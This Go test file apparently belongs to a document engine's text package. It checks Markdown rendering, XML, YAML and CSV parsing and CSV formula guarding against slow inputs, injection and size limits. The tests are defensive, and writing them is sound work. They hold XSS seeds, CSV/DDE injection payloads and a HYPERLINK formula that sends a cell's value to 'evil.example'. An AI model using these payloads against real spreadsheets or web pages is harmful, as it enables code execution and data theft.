package text

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"cloudlet/engine/action"
	"cloudlet/engine/language/document"
	"cloudlet/engine/language/schema"
)

// pathological texts are known to make parsers of Markdown slow, or deep.
var pathological = map[string]func(n int) string{
	"emphasis":      func(n int) string { return strings.Repeat("*a ", n) + "b" },
	"closers":       func(n int) string { return strings.Repeat("a_ ", n) },
	"mixed":         func(n int) string { return strings.Repeat("*a_ ", n) },
	"strong":        func(n int) string { return strings.Repeat("**x", n) },
	"nested strong": func(n int) string { return strings.Repeat("*a **a ", n) + "b" + strings.Repeat(" a** a*", n) },
	"strike":        func(n int) string { return strings.Repeat("~~a ", n) },
	"brackets":      func(n int) string { return strings.Repeat("[", n) + "a" + strings.Repeat("]", n) },
	"links":         func(n int) string { return strings.Repeat("[a](", n) },
	"closed":        func(n int) string { return strings.Repeat("[a](b)", n) },
	"images":        func(n int) string { return strings.Repeat("![", n) },
	"open links":    func(n int) string { return strings.Repeat("[a](<b", n) },
	"references":    func(n int) string { return strings.Repeat("[a][", n) + "\n\n[a]: /b" },
	"definitions":   func(n int) string { return strings.Repeat("[a]: /b\n", n) + strings.Repeat("[a] ", n) },
	"quotes":        func(n int) string { return strings.Repeat(">", n) },
	"quotes spaced": func(n int) string { return strings.Repeat("> ", n) + "a" },
	"lists":         func(n int) string { return strings.Repeat("- ", n) + "a" },
	"numbers":       func(n int) string { return strings.Repeat("1. ", n) + "a" },
	"deep list": func(n int) string {
		var b strings.Builder
		for i := range min(n, 700) {
			fmt.Fprintf(&b, "%s- a\n", strings.Repeat("  ", i))
		}
		return b.String()
	},
	"backticks": func(n int) string {
		var b strings.Builder
		for i := 1; b.Len() < n; i++ {
			b.WriteString("e" + strings.Repeat("`", i))
		}
		return b.String()
	},
	"tags":       func(n int) string { return strings.Repeat("<a ", n) },
	"comments":   func(n int) string { return strings.Repeat("<!--", n) },
	"processing": func(n int) string { return strings.Repeat("a <?", n) },
	"entities":   func(n int) string { return strings.Repeat("&", n) + strings.Repeat("&lt;", n/4) },
	"table": func(n int) string {
		return strings.Repeat("|a", 1000) + "\n" + strings.Repeat("|-", 1000) + "\n" + strings.Repeat("|\n", n/2)
	},
	"addresses":  func(n int) string { return strings.Repeat("http://a.b/(", n/8) },
	"mails":      func(n int) string { return strings.Repeat("a@", n) },
	"dots":       func(n int) string { return "www." + strings.Repeat("a.", n) },
	"escapes":    func(n int) string { return strings.Repeat("\\", n) },
	"paragraphs": func(n int) string { return strings.Repeat("a\n\n", n/2) },
	"fences":     func(n int) string { return strings.Repeat("```\n", n/2) },
	"nul":        func(n int) string { return strings.Repeat("\x00", n) },
}

// Nothing takes so long, or so deep, that it hurts: of each kind of attack either the whole
// text is refused, or a text of full size is answered. BenchmarkMarkdown tells how fast.
func TestMarkdownOfAttackers(t *testing.T) {
	t.Parallel()
	for _, name := range slices.Sorted(maps.Keys(pathological)) {
		text := pathological[name](mostMarkdown)
		_, err := render(text[:min(len(text), mostMarkdown)])
		if status := action.FailureOf(err).Status; err != nil && status != 400 && status != 413 {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// What people write is within the bounds.
func TestLongMarkdownOfFriends(t *testing.T) {
	t.Parallel()
	list := strings.Repeat("- [A *film*](https://films.example/a_b_c), with **stars** and `code`\n", 2000)
	table := "| a | b | c |\n|---|:-:|--:|\n" + strings.Repeat("| 1 | *2* | [3](https://a.example) |\n", 150)
	prose := strings.Repeat(strings.Repeat("Some *words* of a [paragraph](https://a.example).\n", 50)+"\n", 50)
	for _, text := range []string{list, table, prose, "# A\n\n" + list + "\n" + table + "\n" + prose[:10_000]} {
		if _, err := render(text); err != nil {
			t.Errorf("%q is refused: %v", text[:40], action.FailureOf(err).Detail)
		}
	}
}

func BenchmarkMarkdown(b *testing.B) {
	shapes := map[string]func(int) string{"prose": func(n int) string {
		return strings.Repeat("Some *words* of a [paragraph](https://a.example).\n\n", n/50)
	}}
	maps.Copy(shapes, pathological)
	for _, name := range slices.Sorted(maps.Keys(shapes)) {
		text := shapes[name](200)
		text = strings.Repeat(text+"\n\n", 1+mostMarkdown/len(text))[:mostMarkdown] // each block just within the bounds
		b.Run(strings.ReplaceAll(name, " ", "_"), func(b *testing.B) {
			for b.Loop() {
				if _, err := render(text); err != nil {
					b.ReportMetric(1, "refused")
				}
			}
		})
	}
}

// dangerous says what of HTML could run, or lead to what runs.
func dangerous(text string) string {
	z := html.NewTokenizer(strings.NewReader(text))
	for {
		kind := z.Next()
		if kind == html.ErrorToken {
			return ""
		}
		token := z.Token()
		if kind != html.StartTagToken && kind != html.SelfClosingTagToken {
			continue
		}
		switch token.Data {
		case "script", "style", "iframe", "object", "embed", "svg", "math", "form", "base", "meta", "link", "template", "noscript", "textarea", "title", "frame":
			return "<" + token.Data + ">"
		}
		for _, a := range token.Attr {
			value := strings.ToLower(strings.Map(func(r rune) rune {
				if r <= ' ' {
					return -1
				}
				return r
			}, a.Val))
			scheme, _, has := strings.Cut(value, ":")
			switch {
			case strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "srcdoc" || a.Key == "formaction" || a.Key == "id" || a.Key == "name":
				return a.Key
			case (a.Key == "href" || a.Key == "src" || a.Key == "cite") && has && scheme != "http" && scheme != "https" && scheme != "mailto" && !strings.ContainsAny(scheme, "/?#"):
				return a.Key + "=" + a.Val
			}
		}
	}
}

func FuzzMarkdown(f *testing.F) {
	for _, make := range pathological {
		f.Add(make(20))
	}
	f.Add("[a](javascript:alert(1)) <img src=x onerror=alert(1)> <https://a.b> **x** | a |\n|-|\n")
	f.Fuzz(func(t *testing.T, text string) {
		if len(text) > 10_000 {
			return
		}
		if out, err := render(text); err == nil {
			if what := dangerous(out); what != "" {
				t.Errorf("%q becomes %q, which has %s", text, out, what)
			}
		}
	})
}

func FuzzXMLParse(f *testing.F) {
	f.Add("<?xml version=\"1.0\"?><a b=\"c\">x<d/><d>y</d></a>")
	f.Add("<!DOCTYPE a [<!ENTITY b \"c\">]><a>&b;</a>")
	f.Fuzz(func(t *testing.T, text string) {
		v, err := parseXML(text, []string{"d"})
		if err != nil {
			if s := action.FailureOf(err).Status; s >= 500 {
				t.Errorf("%q: %v", text, err)
			}
			return
		}
		if o, ok := v.(*schema.Object); !ok || o.Len() != 1 {
			t.Errorf("%q has no one root: %s", text, schema.AppendJSON(nil, v))
		}
	})
}

func FuzzYAMLParse(f *testing.F) {
	f.Add([]byte("a: [1, yes]\nb: {c: null}\n"))
	f.Add([]byte("a: &x [1]\nb: *x\n"))
	f.Fuzz(func(t *testing.T, text []byte) {
		if v, _, ok := document.ParseData(text); ok {
			schema.AppendJSON(nil, v) // it is a value
		}
	})
}

func parsing(text string) (any, error) {
	in := &csvParseInputs{Text: action.Fixed(action.Text(text)), Header: true, separator: ','}
	return runCSVParse(&action.Call{}, in)
}

// What is parsed and written again is parsed alike.
func FuzzCSVParse(f *testing.F) {
	f.Add("a,b\n1,\"x\ny\"\n")
	f.Add("a\n\"\"\n")
	f.Fuzz(func(t *testing.T, text string) {
		v, err := parsing(text)
		if err != nil {
			return
		}
		w := formatting(v.([]any), "keep")
		again, err := parsing(w)
		if err != nil || len(v.([]any)) > 0 && !schema.Equal(v, again) {
			t.Errorf("%q is %s; written as %q it is %s, %v", text, schema.AppendJSON(nil, v), w, schema.AppendJSON(nil, again), err)
		}
	})
}

func formatting(rows []any, formulas string) string {
	in := &csvFormatInputs{Rows: action.Fixed(rows), Header: true, Formulas: formulas, separator: ','}
	text, err := runCSVFormat(&action.Call{}, in)
	if err != nil {
		panic(err)
	}
	return text
}

// However a formula is dressed, a spreadsheet sees a text.
func TestFormulasAreGuarded(t *testing.T) {
	t.Parallel()
	payloads := []string{"1+1", "cmd|'/C calc'!A0", "HYPERLINK(\"http://evil.example?\"&A1)", "SUM(A1:A9)", "DDE(\"cmd\";\"/C calc\")", "2+5+cmd|' /C calc'!A0", "IMPORTXML(\"http://e\",\"//a\")"}
	n := 0
	for _, start := range formulaStarts {
		for _, dress := range []string{"%s", " %s", "\u00a0%s", "\u200b%s", "\ufeff%s", "\x00%s", "\n%s", "\v%s", "\u2028%s"} {
			for _, payload := range payloads {
				text := fmt.Sprintf(dress, string(start)+payload)
				out := formatting([]any{schema.NewObject(text, text, "b", 1)}, "guard")
				records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
				if err != nil || len(records) != 2 || records[0][0][0] != '\'' || records[1][0][0] != '\'' || records[1][1] != "1" {
					t.Fatalf("%q is written as %q (%v)", text, out, err)
				}
				n++
			}
		}
	}
	for _, row := range []any{-1, 1.5, -2.5, true, "Alien", "a=b", "1-2", "ä", ""} {
		if out := formatting([]any{schema.NewObject("a", row)}, "guard"); strings.Contains(out, "'") {
			t.Errorf("%v is written as %q", row, out)
		}
	}
	t.Logf("%d formulas", n)
}

// TestBounds: what is too large is 413, and costs little.
func TestBounds(t *testing.T) {
	t.Parallel()
	deep := strings.Repeat("<a>", 100) + strings.Repeat("</a>", 100)
	if _, err := parseXML(deep, nil); action.FailureOf(err).Status != 400 {
		t.Errorf("100 levels of XML: %v", err)
	}
	if _, err := parseXML("<a>"+strings.Repeat("<b/>", mostElements+1)+"</a>", nil); action.FailureOf(err).Status != 413 {
		t.Errorf("XML of too many elements: %v", err)
	}
	if _, err := parsing(strings.Repeat("a,", mostColumns+1)); action.FailureOf(err).Status != 413 {
		t.Errorf("CSV of too many columns: %v", err)
	}
	if _, err := parsing(string(bytes.Repeat([]byte("a"), mostText+1))); action.FailureOf(err).Status != 413 {
		t.Errorf("CSV of too many bytes: %v", err)
	}
	if _, err := render(strings.Repeat(">", 1000) + "a"); action.FailureOf(err).Code != "invalid_markdown" {
		t.Errorf("1000 quotes: %v", err)
	}
}

// Texts as secret as what they are made of: see testdata/problems/formats_inputs.txtar.

func BenchmarkCSVFormat(b *testing.B) {
	shape := schema.NewShape("id", "title", "year", "price")
	rows := make([]any, 10_000)
	for i := range rows {
		rows[i] = shape.New([]any{i, "The title, of a film", 1979, 12.5})
	}
	b.ReportAllocs()
	for b.Loop() {
		formatting(rows, "guard")
	}
}
